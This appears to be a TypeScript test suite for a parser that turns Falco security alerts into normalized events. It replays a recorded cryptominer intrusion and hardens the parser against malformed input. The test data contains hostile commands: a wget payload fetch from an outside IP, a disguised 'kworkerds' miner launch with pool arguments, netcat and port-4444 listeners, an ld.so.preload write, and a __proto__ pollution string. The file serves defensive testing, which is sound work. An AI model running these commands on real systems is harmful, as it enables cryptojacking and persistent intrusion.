import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import type { RawEvent } from '../event.ts';
import { mapFalcoEvent } from './falco-json.ts';
import type { MapResult } from './ingest-sensor.ts';

const now = Date.UTC(2026, 2, 14, 12, 0, 0);
const fixture = readFileSync(new URL('../../../test/fixtures/traces/falco-miner-drop.jsonl', import.meta.url), 'utf8')
  .split('\n')
  .filter((line) => line !== '')
  .map((line) => JSON.parse(line) as unknown);

function eventOf(result: MapResult): RawEvent {
  assert.ok('events' in result, `expected an event, got ${JSON.stringify(result)}`);
  assert.equal(result.events.length, 1);
  return result.events[0] as RawEvent;
}

function alert(fields: Record<string, unknown>, extra: Record<string, unknown> = {}): unknown {
  return { output: 'x', priority: 'Warning', rule: 'test rule', source: 'syscall', time: '2026-03-14T09:26:53.589793238Z', output_fields: fields, ...extra };
}

describe('mapFalcoEvent on a recorded miner drop', () => {
  const results = fixture.map((json) => mapFalcoEvent(json, now));

  it('maps the shell exec in the pod with its argv, parent, user and container', () => {
    assert.deepEqual(eventOf(results[0]!), {
      at: Date.UTC(2026, 2, 14, 9, 26, 53, 589),
      sensor: 'falco',
      comm: '/bin/busybox',
      pid: 48213,
      containerId: '4f2a9c1e7b3d',
      pod: { namespace: 'shop', name: 'api-7d9f8b6c5-x2lqp', container: 'api' },
      type: 'exec',
      ppid: 48201,
      uid: 0,
      exe: '/bin/busybox',
      argv: ['sh', '-c', 'wget', '-q', '-O', '/tmp/.x', 'http://198.51.100.23/x'],
      parentExe: '/usr/bin/runc',
    });
  });

  it('maps the write below /usr/bin with the flags that made it a write', () => {
    const event = eventOf(results[1]!);
    assert.equal(event.type, 'file-write');
    assert.deepEqual(event.type === 'file-write' && [event.path, event.flags], ['/usr/bin/kworkerds', ['O_TRUNC', 'O_CREAT', 'O_WRONLY']]);
  });

  it('maps the dropped binary exec', () => {
    const event = eventOf(results[2]!);
    assert.ok(event.type === 'exec');
    assert.equal(event.exe, '/usr/bin/kworkerds');
    assert.deepEqual(event.argv, ['/usr/bin/kworkerds', '-o', 'pool.example.net:3333', '-u', '4AdUndX', '--donate-level', '1']);
    assert.equal(event.sha256, undefined);
  });

  it('maps the pool connection to the remote end of fd.name', () => {
    const event = eventOf(results[3]!);
    assert.deepEqual(event.type === 'connect' && [event.protocol, event.family, event.address, event.port], ['tcp', 4, '198.51.100.23', 3333]);
  });

  it('maps a UDP connect over IPv6 from fd.name alone', () => {
    const event = eventOf(results[4]!);
    assert.deepEqual(event.type === 'connect' && [event.protocol, event.family, event.address, event.port], ['udp', 6, '2001:db8::53', 53]);
  });

  it('maps an accepted connection to the peer and the local port', () => {
    const event = eventOf(results[5]!);
    assert.deepEqual(event.type === 'accept' && [event.address, event.port, event.localPort], ['203.0.113.9', 51522, 8080]);
  });

  it('maps a listen as TCP on the bound address', () => {
    const event = eventOf(results[6]!);
    assert.deepEqual(event.type === 'listen' && [event.protocol, event.address, event.port], ['tcp', '0.0.0.0', 4444]);
  });

  it('maps the exit', () => {
    assert.equal(eventOf(results[7]!).type, 'exit');
  });

  it('skips a read-only open', () => {
    assert.deepEqual(results[8], { skipped: 'file opened without write flags' });
  });

  it('leaves the container id unset for host processes', () => {
    const event = eventOf(results[9]!);
    assert.equal(event.containerId, undefined);
    assert.equal(event.pod, undefined);
    assert.deepEqual(event.type === 'exec' && [event.uid, event.ppid, event.argv], [1000, 90002, ['nc', '-lvp', '9001']]);
  });

  it('skips alerts from other sources', () => {
    assert.ok('skipped' in results[10]!);
    assert.match(results[10].skipped, /k8s_audit/);
  });
});

describe('mapFalcoEvent with fields a rule may leave out', () => {
  it('says to add proc.pid when the rule output lacks it', () => {
    const result = mapFalcoEvent(alert({ 'evt.type': 'execve', 'proc.exepath': '/bin/sh' }), now);
    assert.ok('error' in result);
    assert.match(result.error, /proc\.pid/);
  });

  it('marks ppid and uid unknown when absent and takes argv from proc.cmdline', () => {
    const event = eventOf(mapFalcoEvent(alert({ 'evt.type': 'execve', 'proc.pid': 7, 'proc.exepath': '/bin/sleep', 'proc.cmdline': 'sleep 10' }), now));
    assert.deepEqual(event.type === 'exec' && [event.ppid, event.uid, event.argv], [-1, -1, ['sleep', '10']]);
  });

  it('treats Falco <NA> values (null) as absent', () => {
    const event = eventOf(mapFalcoEvent(alert({ 'evt.type': 'procexit', 'proc.pid': 7, 'container.id': null, 'k8s.ns.name': null, 'k8s.pod.name': null }), now));
    assert.equal(event.containerId, undefined);
    assert.equal(event.pod, undefined);
  });

  it('uses the arrival time when the alert has none', () => {
    const json = { output_fields: { 'evt.type': 'procexit', 'proc.pid': 7 } };
    assert.equal(eventOf(mapFalcoEvent(json, now)).at, now);
  });

  it('maps creat as a write without printed flags', () => {
    const event = eventOf(mapFalcoEvent(alert({ 'evt.type': 'creat', 'proc.pid': 7, 'fd.name': '/tmp/x' }), now));
    assert.deepEqual(event.type === 'file-write' && event.flags, ['O_CREAT', 'O_WRONLY', 'O_TRUNC']);
  });

  it('trusts evt.is_open_write when the flags are not in the output', () => {
    const event = eventOf(mapFalcoEvent(alert({ 'evt.type': 'openat', 'proc.pid': 7, 'fd.name': '/etc/ld.so.preload', 'evt.is_open_write': true }), now));
    assert.deepEqual(event.type === 'file-write' && [event.path, event.flags], ['/etc/ld.so.preload', undefined]);
  });

  it('skips an open whose rule output says nothing about writing', () => {
    const result = mapFalcoEvent(alert({ 'evt.type': 'openat', 'proc.pid': 7, 'fd.name': '/etc/hosts' }), now);
    assert.ok('skipped' in result);
    assert.match(result.skipped, /evt\.arg\.flags/);
  });

  it('skips a connect without a protocol rather than guessing one', () => {
    const result = mapFalcoEvent(alert({ 'evt.type': 'connect', 'proc.pid': 7, 'fd.name': '10.0.0.1:5000->10.0.0.2:53' }), now);
    assert.ok('skipped' in result);
    assert.match(result.skipped, /fd\.l4proto/);
  });

  it('skips connects on unix sockets', () => {
    const result = mapFalcoEvent(alert({ 'evt.type': 'connect', 'proc.pid': 7, 'fd.typechar': 'u', 'fd.name': '/run/docker.sock' }), now);
    assert.ok('skipped' in result);
  });

  it('skips event types it does not map, naming them', () => {
    assert.deepEqual(mapFalcoEvent(alert({ 'evt.type': 'ptrace', 'proc.pid': 7 }), now), { skipped: 'evt.type "ptrace" is not mapped' });
  });

  it('skips alerts whose rule output has no evt.type', () => {
    assert.ok('skipped' in mapFalcoEvent(alert({ 'proc.pid': 7, 'proc.cmdline': 'sh' }), now));
  });
});

describe('mapFalcoEvent on hostile input', () => {
  const errorOf = (json: unknown): string => {
    const result = mapFalcoEvent(json, now);
    assert.ok('error' in result, `expected an error, got ${JSON.stringify(result)}`);
    return result.error;
  };

  it('rejects values that are not alert objects', () => {
    for (const value of [null, 42, 'alert', [], [{ output_fields: {} }], true]) assert.match(errorOf(value), /JSON object/);
    assert.match(errorOf({ rule: 'x' }), /output_fields/);
    assert.match(errorOf({ output_fields: 'evt.type=execve' }), /output_fields/);
  });

  it('rejects a pid given as a string, negative, fractional or beyond PID_MAX_LIMIT', () => {
    assert.match(errorOf(alert({ 'evt.type': 'procexit', 'proc.pid': '4242' })), /proc\.pid is the string "4242"/);
    assert.match(errorOf(alert({ 'evt.type': 'procexit', 'proc.pid': -1 })), /outside/);
    assert.match(errorOf(alert({ 'evt.type': 'procexit', 'proc.pid': 1.5 })), /not an integer/);
    assert.match(errorOf(alert({ 'evt.type': 'procexit', 'proc.pid': 2 ** 40 })), /outside/);
  });

  it('rejects ports out of range and addresses that are not IPs', () => {
    const connect = { 'evt.type': 'connect', 'proc.pid': 7, 'fd.l4proto': 'tcp' };
    assert.match(errorOf(alert({ ...connect, 'fd.rip': '10.0.0.2', 'fd.rport': 70000 })), /fd\.rport 70000 is outside/);
    assert.match(errorOf(alert({ ...connect, 'fd.rip': '10.0.0.2', 'fd.rport': -3 })), /outside/);
    assert.match(errorOf(alert({ ...connect, 'fd.rip': 'pool.example.net', 'fd.rport': 3333 })), /not an IP address/);
    assert.match(errorOf(alert({ ...connect, 'fd.name': '10.0.0.1:5->10.0.0.2:99999' })), /not a client->server/);
  });

  it('rejects a container id that is not one, and wrong types of strings', () => {
    assert.match(errorOf(alert({ 'evt.type': 'procexit', 'proc.pid': 7, 'container.id': '../../etc' })), /not a container id/);
    assert.match(errorOf(alert({ 'evt.type': 42, 'proc.pid': 7 })), /evt\.type is the number 42/);
    assert.match(errorOf(alert({ 'evt.type': 'execve', 'proc.pid': 7, 'proc.exepath': { path: '/bin/sh' } })), /proc\.exepath is an object/);
  });

  it('rejects an unparsable time instead of inventing one', () => {
    assert.match(errorOf(alert({ 'evt.type': 'procexit', 'proc.pid': 7 }, { time: '2026-13-14T09:26:53Z' })), /RFC 3339/);
    assert.match(errorOf(alert({ 'evt.type': 'procexit', 'proc.pid': 7 }, { time: 1710408413 })), /RFC 3339/);
  });

  it('never reads fields through __proto__ or pollutes Object.prototype', () => {
    const line = '{"source":"syscall","output_fields":{"__proto__":{"proc.pid":7,"evt.type":"execve"},"evt.type":"procexit"},"__proto__":{"polluted":true}}';
    assert.match(errorOf(JSON.parse(line)), /proc\.pid/);
    const inherited = JSON.parse('{"output_fields":{"evt.type":"procexit","proc.pid":7,"constructor":1,"toString":"x"}}');
    assert.equal(eventOf(mapFalcoEvent(inherited, now)).pid, 7);
    assert.equal(({} as Record<string, unknown>)['polluted'], undefined);
  });

  it('ignores deeply nested values in fields it does not read', () => {
    let deep: unknown = 'bottom';
    for (let depth = 0; depth < 5000; depth += 1) deep = [deep];
    const event = eventOf(mapFalcoEvent(alert({ 'evt.type': 'procexit', 'proc.pid': 7, 'custom.field': deep }), now));
    assert.equal(event.type, 'exit');
  });

  it('quotes hostile strings short in its reasons', () => {
    const result = mapFalcoEvent(alert({ 'evt.type': 'x'.repeat(10_000), 'proc.pid': 7 }), now);
    assert.ok('skipped' in result);
    assert.ok(result.skipped.length < 120);
  });
});
